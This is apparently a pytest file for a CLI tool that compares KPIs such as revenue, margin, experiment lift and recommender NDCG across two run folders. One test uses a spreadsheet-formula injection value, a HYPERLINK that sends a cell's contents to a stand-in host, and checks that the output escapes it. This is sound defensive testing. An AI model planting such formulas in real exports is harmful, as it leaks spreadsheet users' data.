"""`channelops compare RUN_A RUN_B`: a KPI delta table between two run folders."""

from __future__ import annotations

import json

import pandas as pd
import pytest

from channelops.run.cli import main
from channelops.run.compare import compare_runs
from channelops.run.folder import write_table


def _run(
    root,
    name: str,
    revenue_a: float,
    margin_a: float,
    lift: float | None = None,
    experiment: str = "coupon",
):
    run = root / name
    write_table(
        pd.DataFrame(
            {
                "channel_id": ["a", "b"],
                "rank": [1, 2],
                "revenue": [revenue_a, 50.0],
                "gross_margin": [margin_a, 10.0],
                "cac": [20.0, float("nan")],
            }
        ),
        "scorecard",
        run,
    )
    if lift is not None:
        write_table(
            pd.DataFrame({"name": [experiment], "diff": [5.0], "lift": [lift]}),
            "experiment_results",
            run,
        )
    return run


def test_compare_prints_and_writes_deltas(tmp_path, capsys):
    a = _run(tmp_path, "base", 100.0, 40.0, lift=0.10)
    b = _run(tmp_path, "scenario", 150.0, 30.0, lift=0.12)
    out = tmp_path / "cmp.csv"
    assert main(["compare", str(a), str(b), "--out", str(out)]) == 0
    printed = capsys.readouterr().out
    assert "scenario - base" in printed and f"to {out}" in printed
    t = pd.read_csv(out).set_index(["kpi", "scope"])
    # revenue a: 100 -> 150, +50, +50%; total 150 -> 200, +50, +33.3%
    assert t.loc[("revenue", "a"), ["run_a", "run_b", "delta", "relative_delta"]].tolist() == [
        100,
        150,
        50,
        0.5,
    ]
    assert t.loc[("revenue", "all channels"), "relative_delta"] == pytest.approx(50 / 150)
    # margin a: 40 -> 30 is -25%; margin rate overall (50/150) -> (40/200)
    assert t.loc[("gross_margin", "a"), "relative_delta"] == pytest.approx(-0.25)
    assert t.loc[("gross_margin_rate", "all channels"), "delta"] == pytest.approx(
        40 / 200 - 50 / 150
    )
    assert t.loc[("experiment_lift", "coupon"), "delta"] == pytest.approx(0.02)
    assert pd.isna(t.loc[("cac", "b"), "delta"])  # NaN in both runs stays NaN, no crash


def test_compare_csv_cannot_run_a_formula_from_the_data(tmp_path, capsys):
    """An experiment named like a spreadsheet formula is written as text ('=...)."""
    name = '=HYPERLINK("http://x"&A1,"click")'
    a = _run(tmp_path, "base", 100.0, 40.0, lift=0.10, experiment=name)
    b = _run(tmp_path, "scenario", 100.0, 40.0, lift=0.12, experiment=name)
    out = tmp_path / "cmp.csv"
    assert main(["compare", str(a), str(b), "--out", str(out)]) == 0
    assert name in capsys.readouterr().out, "the printed table shows the name as it is"
    t = pd.read_csv(out)
    assert t.loc[t["kpi"] == "experiment_lift", "scope"].tolist() == ["'" + name]
    assert not t.astype(str).apply(lambda c: c.str.match(r"^[=+@\t\r]")).any().any()
    assert t.loc[t["kpi"] == "experiment_lift", "delta"].iloc[0] == pytest.approx(0.02)


def test_compare_default_path_and_table_in_one_run_only(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    a = _run(tmp_path, "one", 100.0, 40.0, lift=0.10)
    b = _run(tmp_path, "two", 100.0, 40.0)
    assert main(["compare", str(a), str(b)]) == 0
    assert "experiment_results is in only one run" in capsys.readouterr().out
    t = pd.read_csv(tmp_path / "output" / "compare_one_vs_two.csv")
    assert not t["kpi"].str.startswith("experiment").any()
    assert (t["delta"].dropna() == 0).all()


def test_compare_says_what_is_missing(tmp_path, capsys):
    a = _run(tmp_path, "base", 100.0, 40.0)
    assert main(["compare", str(a), str(tmp_path / "nope")]) == 2
    assert "run folder" in capsys.readouterr().err
    (tmp_path / "empty" / "tables").mkdir(parents=True)
    assert main(["compare", str(tmp_path / "empty"), str(a)]) == 2
    err = capsys.readouterr().err
    assert "scorecard" in err and "--only 06" in err


def test_compare_takes_the_overall_test_figures_of_the_recommender(tmp_path):
    """07 scores each model on a validation and a test split, overall and per group;
    the comparison quotes one figure per model: the overall test-period one."""

    def metrics(ndcg_als: float) -> pd.DataFrame:
        rows = []
        for split in ("validation", "test"):
            for group_by, group in (("all", "all"), ("segment", "new"), ("channel", "jd")):
                for model, ndcg in (("popularity", 0.30), ("als", ndcg_als)):
                    # only the overall test row carries the figure under comparison
                    real = split == "test" and group_by == "all"
                    rows.append(
                        {
                            "split": split,
                            "model": model,
                            "group_by": group_by,
                            "group": group,
                            "precision_at_k": 0.1,
                            "recall_at_k": 0.2,
                            "ndcg_at_k": ndcg if real else 0.9,
                        }  # fmt: skip
                    )
        return pd.DataFrame(rows)

    a = _run(tmp_path, "base", 100.0, 40.0)
    b = _run(tmp_path, "next", 100.0, 40.0)
    write_table(metrics(0.33), "recommender_metrics", a)
    write_table(metrics(0.36), "recommender_metrics", b)
    out = tmp_path / "cmp.csv"
    assert main(["compare", str(a), str(b), "--out", str(out)]) == 0
    t = pd.read_csv(out)
    ndcg = t[t["kpi"] == "ndcg_at_k"].set_index("scope")
    assert sorted(ndcg.index) == ["als", "popularity"]  # one row per model, no repeats
    assert ndcg.loc["als", "delta"] == pytest.approx(0.03)
    assert ndcg.loc["popularity", "delta"] == pytest.approx(0.0)


def test_compare_leads_with_totals_and_matches_channels_in_both_runs(tmp_path, capsys):
    """A channel in only one run has no delta: left out with a note; totals come first."""
    a = _run(tmp_path, "base", 100.0, 40.0)
    b = tmp_path / "wider"
    write_table(
        pd.DataFrame(
            {
                "channel_id": ["a", "b", "c"],
                "rank": [1, 2, 3],
                "revenue": [150.0, 50.0, 30.0],
                "gross_margin": [30.0, 10.0, 5.0],
                "cac": [25.0, float("nan"), 9.0],
            }
        ),
        "scorecard",
        b,
    )
    out = tmp_path / "cmp.csv"
    assert main(["compare", str(a), str(b), "--out", str(out)]) == 0
    printed = capsys.readouterr().out
    t = pd.read_csv(out)
    assert "c" not in set(t["scope"]), "channel c is only in one run"
    assert "channel(s) c only in wider" in printed
    # totals first (in the CSV and on screen); the total includes c: 200 -> 230
    assert (t["group"].iloc[: (t["group"] == "total").sum()] == "total").all()
    total = t[(t["kpi"] == "revenue") & (t["scope"] == "all channels")].iloc[0]
    assert (total["run_a"], total["run_b"], total["delta"]) == (150, 230, 80)
    assert printed.index("All channels") < printed.index("Channels in both runs")
    assert printed.index("revenue all channels") < printed.index("Channels in both runs")
    # a figure missing in a run (cac of b) is counted, not printed as a row
    assert "1 KPI rows have no delta" in printed
    assert t.loc[(t["kpi"] == "cac") & (t["scope"] == "b"), "delta"].isna().all()


def test_compare_notes_a_stale_evaluation(tmp_path):
    a, b = _run(tmp_path, "a", 100.0, 40.0), _run(tmp_path, "b", 120.0, 44.0)
    why = "stage 04 (forecasting), whose tables it reads, ran again after it"
    manifest = {"stages": {"06": {"name": "evaluation", "status": "stale", "stale_because": why}}}
    (b / "manifest.json").write_text(json.dumps(manifest))
    _, notes = compare_runs(a, b)
    assert notes == [f"b: stage 06 (evaluation) is stale, so its figures may not match the rest "
                     f"of that run: {why}"]  # fmt: skip
    manifest["stages"]["06"]["status"] = "ok"
    (b / "manifest.json").write_text(json.dumps(manifest))
    assert compare_runs(a, b)[1] == []
